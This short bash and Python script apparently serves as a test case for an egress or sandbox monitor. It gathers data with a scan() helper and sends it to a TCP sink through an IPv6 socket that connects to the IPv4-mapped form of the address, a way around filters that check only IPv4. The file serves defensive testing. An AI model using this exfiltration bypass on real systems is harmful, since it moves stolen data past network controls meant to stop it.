#!/usr/bin/env bash
# technique: an IPv6 socket connects to the IPv4 address in its mapped form
# hooks: socket_connect
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_INET6) as sink:
    sink.settimeout(5)
    sink.connect((f"::ffff:{TCP[0]}", TCP[1]))
    sink.sendall(data)
PY
